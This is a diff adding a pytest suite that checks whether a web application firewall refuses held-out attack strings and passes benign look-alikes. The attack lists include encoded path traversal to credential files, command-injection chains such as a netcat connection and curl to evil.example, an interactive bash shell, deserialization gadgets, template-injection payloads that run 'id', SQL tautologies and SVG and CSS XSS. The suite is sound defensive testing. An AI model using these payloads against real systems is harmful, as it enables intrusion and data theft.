@@ -1,0 +1,327 @@
+"""WAF, part 2g: held-out probes for the classes issue 11 names from
+corpora we do not have, written for this file (no string taken from a
+corpus or a public list), through the real edge (shipped config, bans off).
+
+Each attack is sent as a query value (URL-encoded once, and once more:
+the edge decodes repeatedly) and as a JSON body field; each benign
+look-alike in both placements must pass. The classes: traversal written
+with overlong UTF-8, %u or fullwidth dots and slashes; Windows drive
+paths; time-based and Windows commands after a separator; YAML/Ruby/
+Python deserialization tags; template syntaxes beyond {{ }}; SQL booleans
+without quotes and with typographic quotes; SVG/XML-namespaced and
+CSS-based XSS; backtick command substitution; chaining with ; | && then an
+ordinary command; hex-literal, IS NOT NULL, unary and backslash-escaped
+SQL tautologies; paths with // or /./ segments or a file: URL. And their
+false-positive classes: system paths mentioned in text, prose that starts
+with a command word, command lines with flags in documentation, markdown
+code spans, Python docstrings, file paths as values.
+
+A probe the edge gets wrong today is listed in KNOWN_MISSES or
+KNOWN_FALSE_POSITIVES with the reason, and runs as a strict xfail: it
+fails the suite the day it starts to pass, so the list stays true."""
+import urllib.parse
+
+import pytest
+import requests
+
+from wafkit import WafEdge, waf_config
+
+CONF = waf_config()
+
+# Percent escapes in these are kept as written (the attacker's own).
+ENCODED_TRAVERSAL = [
+    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afvar%c0%aflog%c0%afmessages",
+    "..%u2216..%u2216..%u2216boot.ini",
+    "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fgroup",
+    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/hostname",
+    "..%c1%9c..%c1%9cwindows%c1%9csystem32%c1%9cdrivers%c1%9cetc%c1%9chosts",
+    "%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc%c0%2fissue",
+    "%uff0e%uff0e%uff0f%uff0e%uff0e%uff0fetc%uff0fpasswd",
+    "..%25c0%25af..%25c0%25afetc%25c0%25afshadow",
+    "%2e%2e%5c%2e%2e%5cwinnt%5cwin.ini",
+]
+
+ATTACKS = {
+    "windows-drive": [
+        "C:\\Windows\\System32\\config\\SAM",
+        "c:/windows/system.ini",
+        "D:\\inetpub\\wwwroot\\web.config",
+        "file:///C:/Windows/win.ini",
+        "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
+        "C:\\boot.ini",
+    ],
+    "command-after-separator": [
+        "x; sleep 15",
+        "1 && ping -n 20 127.0.0.1",
+        "a| timeout /t 10",
+        "foo & waitfor /t 5 SIG",
+        "bar; powershell Start-Sleep 9",
+        "z || type C:\\boot.ini",
+        "1;ver",
+        "abc & dir c:\\",
+        "a | net user",
+        "4 && systeminfo",
+        "9| tasklist /v",
+        "k; whoami /priv",
+        "1|sleep 7",
+        "x;usleep 5000000",
+    ],
+    "deserialization": [
+        "!!python/object/apply:os.system ['id']",
+        "--- !ruby/object:Gem::Installer\n i: x",
+        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
+        "[[!!java.net.URL [\"http://evil.example/\"]]]]",
+        "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection",
+        "!!python/object/new:subprocess.check_output [['ls']]",
+        "--- !ruby/object:OpenStruct\ntable: {}",
+        "!<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
+    ],
+    "template": [
+        "${7*191}", "#{7*7}", "<%= 7*7 %>", "{{=7*7}}",
+        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+        "{% import os %}{{ os.popen('id').read() }}",
+        "${{13*13}}", "@(13*13)", "#set($x=7*7)$x", "[[${7*7}]]",
+        "{php}echo 1;{/php}",
+        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "${T(java.lang.System).getenv()}", "{{7*'7'}}", "<%= system('id') %>",
+        "#{ 3 * 3 }", "{{ config.items() }}", "{{request.application.__globals__}}",
+    ],
+    "sql-boolean": [
+        "5 OR 2>1", "3 and 8=8",
+        "x\u2019 OR \u20181\u2019=\u20181", "name\u2018 or 1=1 -- ",
+        "0 || 1=1", "1 AND TRUE--", "99 or not false",
+        "7 OR 3 BETWEEN 1 AND 5", "2 or 1 like 1", "1) or (2=2",
+    ],
+    "xss-svg-xml-css": [
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
+        "<div style=\"background:url(javascript:alert(1))\">",
+        "<p style=\"width:expression(alert(1))\">",
+        "<style>@import \"//evil.example/x.css\";</style>",
+        "<svg><set attributeName=onmouseover to=alert(1)>",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
+        "<html:img xmlns:html=\"http://www.w3.org/1999/xhtml\" src=x onerror=alert(1)>",
+        "<svg><script xlink:href=data:,alert(1)></script>",
+        "<div style=\"behavior:url(x.htc)\">",
+        "<b style=\"-moz-binding:url(//evil.example/x.xml#a)\">",
+    ],
+    "backticks": [
+        "`uname -a`", "name=`cat /etc/issue`", "x`sleep${IFS}5`", "a`id`b",
+        "`whoami`",
+    ],
+    "chaining": [
+        "; id", "| id", "&& id", "x;uname", "1|head /etc/hosts",
+        "a && curl evil.example", "; $0 -c id", "| bash -i", ";env", "&& ls",
+        "|| date", "q; hostname", "7 | wc -l", "b && cat .env", "&& printenv",
+        "x; nc evil.example 4444",
+    ],
+    "sql-tautology": [
+        "' or 0x41=0x41 --", "1' or 'x' is not null--", "' OR -1=-1#",
+        "\\' or 2>1 --", "' or ~1--", "' OR x'41'=x'41'/*", "1' or !0 --",
+        "' || 1 #", "' or 1 is not null --", "\" or 0x1=0x1 --",
+        "' or +1=+1 --", "') or (0x10=16) --",
+    ],
+    "path-spelling": [
+        "/etc//shadow", "/./etc/./hosts", "file:///etc/group",
+        "file://localhost/etc/hosts", "////etc/passwd",
+        "/var//log/../../etc/passwd", "/etc/.//passwd", "file:/etc/passwd",
+        "/proc//self//cmdline",
+    ],
+}
+
+BENIGN = {
+    "system-path-in-text": [
+        "Logs live in /var/log/nginx by default on Debian.",
+        "Edit /etc/hosts to map the name locally.",
+        "The binary is installed to /usr/bin/python3.",
+        "Windows keeps drivers in C:\\Windows\\System32\\drivers.",
+        "My config is at /home/anna/.config/app/settings.toml",
+        "Check /proc/cpuinfo for the CPU flags.",
+        "Certificates go in /etc/ssl/certs on most distros",
+        "Backups are written to /var/backups every night",
+        "see /usr/share/doc/nginx/README for details",
+        "Put the key in ~/.ssh/authorized_keys and restart sshd",
+    ],
+    "prose-starting-with-a-command-word": [
+        "Python3 caching library for async apps", "Find the best coffee near you",
+        "Sort by date, newest first", "Make sure to bring a jacket",
+        "Kill time at the museum before lunch", "Sleep well and see you tomorrow",
+        "Echo Park farmers market on Sunday", "Time to go home",
+        "Cat pictures from the weekend", "Top 10 hiking trails",
+        "Date night at the bistro", "Touch base with Anna about the report",
+        "Ping me when you arrive", "Curl up with a book",
+        "Tail end of the season; wait for the sale", "Head south and then wait",
+        "Less is more | minimalism", "Nice view & good food", "Yes, and no",
+        "Which one? Who knows", "Watch the game tonight; nothing else",
+        "Export the report as PDF", "Set up the tent; then eat",
+        "Read the docs and sleep on it", "Open Monday-Friday, closed Sunday",
+        "Test results: all green & ready", "Free wifi | power outlets | quiet",
+        "Type your name here", "Go ahead, make my day",
+    ],
+    "command-lines-in-docs": [
+        "Run `pip install -U requests` to upgrade.",
+        "Use ls -la to see hidden files.",
+        "git commit -m 'fix typo' && git push",
+        "docker run --rm -it debian:bookworm bash",
+        "tar -xzf archive.tar.gz -C /tmp/out",
+        "curl -sS https://example.com/api | jq .",
+        "grep -rn TODO src/",
+        "To check connectivity, run ping -c 4 example.com",
+        "Install with: sudo apt-get install -y nginx",
+        "make && make install",
+        "python3 -m venv .venv && . .venv/bin/activate",
+        "npm ci --omit=dev", "kubectl get pods -n kube-system",
+        "ssh -p 2222 user@host.example", "find . -name '*.pyc' -delete",
+        "echo $HOME", "export PATH=$PATH:~/bin", "cd docs; make html",
+    ],
+    "markdown": [
+        "Set `DEBUG=false` in production.", "Call `json.loads(text)` on the body.",
+        "The `--dry-run` flag prints what would change.",
+        "```bash\nmake test\n```",
+        "Use **bold** and _italics_; `code` for names.",
+        "- [x] write tests\n- [ ] ship it",
+        "| col | value |\n|---|---|\n| a | 1 |",
+        "See [the docs](https://example.com/docs/index.html#setup)",
+        "> quote: be kind", "Use `id` to print your user and group ids.",
+        "The `date` command prints the time.", "Run `whoami` to see your login name.",
+    ],
+    "docstrings-and-code": [
+        "\"\"\"Return the user's id.\n\n    Args:\n        name: the login name.\n    \"\"\"",
+        "def double(x):\n    return x * 2",
+        "Raises:\n    ValueError: if the path does not exist.",
+        ">>> sorted([3, 1, 2])\n[1, 2, 3]",
+        "# TODO(anna): handle the empty case",
+        "for i in range(10):\n    print(i)",
+        "if x is not None and y > 0:\n    pass",
+        "import os\nos.path.join(base, 'docs', 'readme.md')",
+    ],
+    "file-paths": [
+        "docs/readme.md", "src/app/main.py", "./configure --prefix=/usr/local",
+        "~/Downloads/report.pdf", "C:\\Users\\anna\\Documents\\notes.txt",
+        "assets/css/site.min.css", "tests/fixtures/sample.json", "README.md",
+        "photos/2026/11/IMG_0042.JPG", "lib/python3.11/site-packages",
+        "D:\\Photos\\Holiday 2025\\beach.jpg", "/api/v2/users/42/orders?page=2",
+    ],
+    "look-alike-text": [
+        "Price: ${price} per unit", "Hello {{name}}!",
+        "Use #{interpolation} in Ruby strings", "Total: $5 (incl. tax)",
+        "Meeting @ 10:30 {room 4}", "Rate: 4/5 stars", "50% off <today only>",
+        "Use <br> for line breaks", "a < b and c > d",
+        "email me at anna+news@example.com", "I <3 coffee",
+        "Tom & Jerry or Mickey", "rock 'n' roll", "It's 5 o'clock",
+        "O'Reilly books or Manning books", "me & you || them",
+        "Select your size: S, M or L", "Order by Friday to get it Monday",
+        "Drop me a line", "Update: the union meeting is moved", "1 or 2 people",
+        "true or false?", "either 3 or 4 days", "Where is the nearest station?",
+        "Table for 2, or 3 if Bob comes", "Sleep 8 hours or more",
+        "I'd like 2 or 3 more", "Count me in, or not",
+        "tags: [a, b]", "key: !!str 123", "date: !!timestamp 2026-01-01",
+    ],
+}
+# Multi-line YAML is text in a body; in a query value a line break
+# followed by "name: value" is the shape of header injection (refused).
+BENIGN_JSON_ONLY = [
+    "---\nname: test\nversion: 2\n",
+    "anchors: &base\n  a: 1\nchild:\n  <<: *base",
+]
+
+KNOWN_MISSES = {
+    "q\nping -c 12 localhost":
+        "a line break after one word reads as a note's heading then a "
+        "command line ('Usage:\\nping -c 4 host'): a warning only",
+    "1 or true":
+        "a whole value of a number, OR and a literal reads as text "
+        "('1 or 2 people'); with a comment or a closer it is caught",
+    "1 `ping -c 3 evil.example`":
+        "a backtick span after a space is a markdown code span",
+}
+KNOWN_FALSE_POSITIVES = {
+    "../images/logo.png":
+        "one parent step is lfi-traversal whatever the target (relative "
+        "links in markdown)",
+    ".github/workflows/ci.yml":
+        "a value that starts with a dot directory is lfi-hidden",
+}
+
+
+def cases(table, extra=()):
+    out = [(cls, v) for cls, vals in table.items() for v in vals]
+    return out + list(extra)
+
+
+def marked(pairs, known):
+    return [pytest.param(cls, v, id=f"{cls}-{i}", marks=pytest.mark.xfail(
+        strict=True, reason=known[v])) if v in known else
+            pytest.param(cls, v, id=f"{cls}-{i}")
+            for i, (cls, v) in enumerate(pairs)]
+
+
+# (class of each known miss)
+MISS_CLASS = {"q\nping -c 12 localhost": "command-after-separator",
+              "1 or true": "sql-boolean",
+              "1 `ping -c 3 evil.example`": "backticks"}
+ATTACK_CASES = marked(cases(ATTACKS, [("encoded-traversal", v) for v in ENCODED_TRAVERSAL]
+                            + [(MISS_CLASS[v], v) for v in KNOWN_MISSES]),
+                      KNOWN_MISSES)
+BENIGN_CASES = marked(cases(BENIGN, [("file-paths", k) for k in KNOWN_FALSE_POSITIVES]),
+                      KNOWN_FALSE_POSITIVES)
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory):
+    e = WafEdge(tmp_path_factory.mktemp("waf-heldout"), CONF).start()
+    yield e
+    e.stop()
+
+
+@pytest.fixture(scope="module")
+def session():
+    with requests.Session() as s:
+        yield s
+
+
+@pytest.fixture(autouse=True)
+def no_lua_errors(edge):
+    yield
+    bad = edge.error_lines("error") + edge.error_lines("crit")
+    assert not bad, "\n".join(bad)
+
+
+def refused(r):
+    return r.status_code in (400, 403)
+
+
+def statuses(session, edge, cls, value):
+    """query (once and twice URL-encoded) and JSON body."""
+    keep = "%" if cls == "encoded-traversal" else ""
+    once = urllib.parse.quote(value, safe=keep)
+    twice = urllib.parse.quote(once, safe="")
+    out = {}
+    for name, q in (("query", once), ("query-2x", twice)):
+        out[name] = session.get(edge.url + "/probe?q=" + q)
+    out["json"] = session.post(edge.url + "/probe", json={"note": value})
+    return out
+
+
+@pytest.mark.parametrize("cls,value", ATTACK_CASES)
+def test_heldout_attack_refused_everywhere(edge, session, cls, value):
+    got = statuses(session, edge, cls, value)
+    passed = [k for k, r in got.items() if not refused(r)]
+    assert not passed, f"{cls}: {value!r} passed as {passed}"
+
+
+@pytest.mark.parametrize("cls,value", BENIGN_CASES)
+def test_heldout_benign_passes(edge, session, cls, value):
+    got = statuses(session, edge, cls, value)
+    refused_as = [k for k, r in got.items() if refused(r)]
+    assert not refused_as, f"{cls}: {value!r} refused as {refused_as}"
+
+
+@pytest.mark.parametrize("value", BENIGN_JSON_ONLY)
+def test_heldout_multiline_yaml_passes_in_a_body(edge, session, value):
+    assert not refused(session.post(edge.url + "/probe", json={"note": value}))
+    # and the same lines in a query value are the header-injection shape
+    q = urllib.parse.quote(value, safe="")
+    assert refused(session.get(edge.url + "/probe?q=" + q))
